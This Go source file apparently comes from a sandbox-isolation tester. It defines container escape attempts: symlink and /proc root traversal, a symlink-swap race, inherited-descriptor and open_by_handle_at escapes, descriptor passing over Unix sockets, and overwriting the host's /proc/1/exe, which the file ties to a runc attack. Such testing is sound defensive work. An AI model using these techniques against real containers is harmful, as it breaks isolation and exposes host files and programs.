package attempts

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

// up leads to the root from every directory.
const up = "/../../../../../../../../../.."

var links = []Attempt{
	{Class: "links and races", Name: "symbolic-link", Gain: "a file of the host", run: trySymlink(func(t *Target) string { return t.secret() })},
	{Class: "links and races", Name: "link-up", Gain: "a file of the host", run: trySymlink(func(t *Target) string { return "." + up + t.secret() })},
	{Class: "links and races", Name: "link-to-first-root", Gain: "a file of the host", run: trySymlink(func(t *Target) string { return t.first("root") + t.secret() })},
	{Class: "links and races", Name: "own-root", Gain: "a file of the host", run: func(t *Target) error { return readSecret("/proc/self/root" + up + t.secret()) }},
	{Class: "links and races", Name: "own-directory", Gain: "a file of the host", run: func(t *Target) error { return readSecret("/proc/self/cwd" + up + t.secret()) }},
	{Class: "links and races", Name: "hard-link", Gain: "a file of the host under a name of the sandbox", run: func(t *Target) error {
		return withNameBeside(t.secret(), func(name string) error {
			if err := unix.Link(t.secret(), name); err != nil {
				return err
			}
			return readSecret(name)
		})
	}},
	{Class: "links and races", Name: "swapped-directory", Gain: "a file of the host by a race", run: trySwapDirectory},
	{Class: "links and races", Name: "any-process-root", Gain: "a file of the host", run: func(t *Target) error {
		return readAnySecret("/proc/[0-9]*/root", t.secret())
	}},
}

// trySymlink returns an attempt that reads a secret through a symbolic link.
func trySymlink(to func(*Target) string) func(*Target) error {
	return func(t *Target) error {
		return withTemporaryPath(func(name string) error {
			if err := os.Symlink(to(t), name); err != nil {
				return err
			}
			return readSecret(name)
		})
	}
}

// withNameBeside runs an attempt with a new name in the directory of a path, which must be on the
// same file system for a hard link.
func withNameBeside(path string, run func(name string) error) error {
	if _, err := os.Stat(path); err != nil {
		return err
	}
	name := filepath.Join(filepath.Dir(path), "link-"+itoa(os.Getpid()))
	defer os.Remove(name)
	return run(name)
}

// trySwapDirectory swaps a directory and a link while another thread opens a file below it.
func trySwapDirectory(t *Target) error {
	return withTemporaryPath(func(name string) error {
		dir, link := name+"-dir", name+"-link"
		if err := errors.Join(os.Mkdir(dir, 0o755), os.Symlink(t.first("root"), link), os.Symlink(dir, name)); err != nil {
			return err
		}
		var done sync.WaitGroup
		var swaps atomic.Int64
		var end atomic.Bool
		done.Go(func() {
			for i := 0; !end.Load(); i++ {
				_ = os.Remove(name + "-next")
				_ = os.Symlink([]string{dir, link}[i%2], name+"-next")
				_ = os.Rename(name+"-next", name)
				swaps.Add(1)
			}
		})
		defer done.Wait()
		defer end.Store(true)
		last := error(unix.ENOENT)
		for swaps.Load() < 500 {
			err := readSecret(name + t.secret())
			if err == nil {
				return nil
			}
			if !errors.Is(err, os.ErrNotExist) {
				last = err
			}
		}
		return last
	})
}

// readAnySecret reads a secret below any of the directories that match a pattern.
func readAnySecret(pattern, path string) error {
	dirs, err := filepath.Glob(pattern)
	if err != nil {
		return err
	}
	last := error(absentError("there is no " + pattern))
	for _, dir := range dirs {
		if last = readSecret(dir + path); last == nil {
			return nil
		}
	}
	return last
}

var descriptors = []Attempt{
	{Class: "descriptors", Name: "inherited", Gain: "a file of the host", Control: "with a descriptor that it opens itself", run: tryInherited},
	{Class: "descriptors", Name: "any-process-descriptor", Gain: "a file of the host", run: func(t *Target) error {
		if t.Control {
			root, err := os.Open("/")
			if err != nil {
				return err
			}
			defer root.Close()
		}
		return readAnySecret("/proc/[0-9]*/fd/*", up+t.secret())
	}, refused: []syscall.Errno{unix.ENOTDIR}},
	{Class: "descriptors", Name: "first-descriptor", Gain: "a file that the first process has open", run: func(t *Target) error {
		_, err := os.Readlink(t.first("fd/0"))
		return err
	}},
	{Class: "descriptors", Name: "up-from-descriptor", Gain: "a file of the host", run: func(t *Target) error {
		fd, err := unix.Open("/proc/self", unix.O_PATH|unix.O_CLOEXEC, 0)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		file, err := unix.Openat(fd, "."+up+t.secret(), unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			return err
		}
		return unix.Close(file)
	}},
	{Class: "descriptors", Name: "open-by-handle", Gain: "any file of the host's file system, by its number", run: openByHandle},
	{Class: "descriptors", Name: "make-handle", Gain: "a number that stands for a file", run: func(*Target) error {
		_, _, err := unix.NameToHandleAt(unix.AT_FDCWD, "/", 0)
		return err
	}},
	{Class: "descriptors", Name: "passed-over-socket", Gain: "a descriptor that a process of the host passes on", run: func(t *Target) error { return receiveSecret(t, t.Socket) }},
	{Class: "descriptors", Name: "passed-over-abstract-socket", Gain: "a descriptor that a process of the host passes on", run: func(t *Target) error { return receiveSecret(t, t.Abstract) }},
	{Class: "descriptors", Name: "watch-all-files", Gain: "which files the host's programs open", run: descriptor(func() (int, error) {
		return unix.FanotifyInit(unix.FAN_CLASS_CONTENT, 0)
	})},
}

// Inherited returns the descriptors that the process got at its start and that may lead to files.
func Inherited() (list []int) {
	for fd := 3; fd < 256; fd++ {
		to, err := os.Readlink("/proc/self/fd/" + itoa(fd))
		if err == nil && strings.HasPrefix(to, "/") {
			list = append(list, fd)
		}
	}
	return list
}

// tryInherited reads a secret relative to an inherited descriptor.
func tryInherited(t *Target) error {
	if t.Control {
		fd, err := unix.Open("/", unix.O_PATH, 0)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
	}
	last := error(absentError("no descriptor of a file was inherited"))
	for _, fd := range Inherited() {
		file, err := unix.Openat(fd, "."+up+t.secret(), unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err == nil {
			return unix.Close(file)
		}
		if err != unix.ENOTDIR {
			last = err
		}
	}
	return last
}

// openByHandle opens the root of a file system by its handle, as an attack on old Docker did.
func openByHandle(*Target) error {
	handle, _, err := unix.NameToHandleAt(unix.AT_FDCWD, "/tmp", 0)
	if err != nil {
		// The call also works with an invented handle.
		handle = unix.NewFileHandle(1, []byte{2, 0, 0, 0, 0, 0, 0, 0})
	}
	at, err := unix.Open("/tmp", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(at)
	fd, err := unix.OpenByHandleAt(at, handle, unix.O_RDONLY|unix.O_CLOEXEC)
	if err != nil {
		return err
	}
	return unix.Close(fd)
}

// receiveSecret connects to a socket of the host and reads the file whose descriptor the host
// passes there.
func receiveSecret(t *Target, address string) error {
	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := unix.Connect(fd, &unix.SockaddrUnix{Name: address}); err != nil {
		return refusedByNetwork(err)
	}
	control := make([]byte, unix.CmsgSpace(4))
	_, n, _, _, err := unix.Recvmsg(fd, make([]byte, 64), control, 0)
	if err != nil {
		return err
	}
	messages, err := unix.ParseSocketControlMessage(control[:n])
	if err != nil || len(messages) == 0 {
		return errors.Join(err, errors.New("connected, but received no descriptor"))
	}
	got, err := unix.ParseUnixRights(&messages[0])
	if err != nil {
		return err
	}
	defer unix.Close(got[0])
	return readSecret(fmt.Sprintf("/proc/self/fd/%d", got[0]))
}

// firstProgram attacks the program file of the first process, which belongs to the host and which
// root starts again. An attack on runc did so.
var firstProgram = []Attempt{
	{Class: "program of the first process", Name: "write-program", Gain: "a program of the host that it wrote", Control: "which fails because the program runs", run: func(t *Target) error {
		return ignoreTextBusy(openFile(t.first("exe"), unix.O_WRONLY))
	}},
	{Class: "program of the first process", Name: "truncate-program", Gain: "a program of the host that is empty", Control: "which fails because the program runs", run: func(t *Target) error {
		return ignoreTextBusy(unix.Truncate(t.first("exe"), 1<<30))
	}},
	{Class: "program of the first process", Name: "read-program", Gain: "a file of the host", run: func(t *Target) error { return openFile(t.first("exe"), unix.O_RDONLY) }},
	{Class: "program of the first process", Name: "write-through-path-descriptor", Gain: "a program of the host that it wrote", Control: "which fails because the program runs", run: func(t *Target) error {
		fd, err := unix.Open(t.first("exe"), unix.O_PATH|unix.O_CLOEXEC, 0)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		return ignoreTextBusy(openFile(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY))
	}},
	{Class: "program of the first process", Name: "start-program", Gain: "the guest's program with arguments of its own", Control: "opens the file as one to start", run: func(t *Target) error {
		return errnoOf(unix.Syscall6(unix.SYS_FACCESSAT2, 0, uintptr(unsafe.Pointer(cString(t.first("exe")))), 1, 0, 0, 0))
	}},
}

// cString returns a text as C has it.
func cString(s string) *byte {
	p, _ := unix.BytePtrFromString(s) // fails only for a text with a zero byte
	return p
}

// ignoreTextBusy turns an error into success that only a caller with sufficient rights gets.
func ignoreTextBusy(err error) error {
	if errors.Is(err, syscall.ETXTBSY) {
		return nil
	}
	return err
}
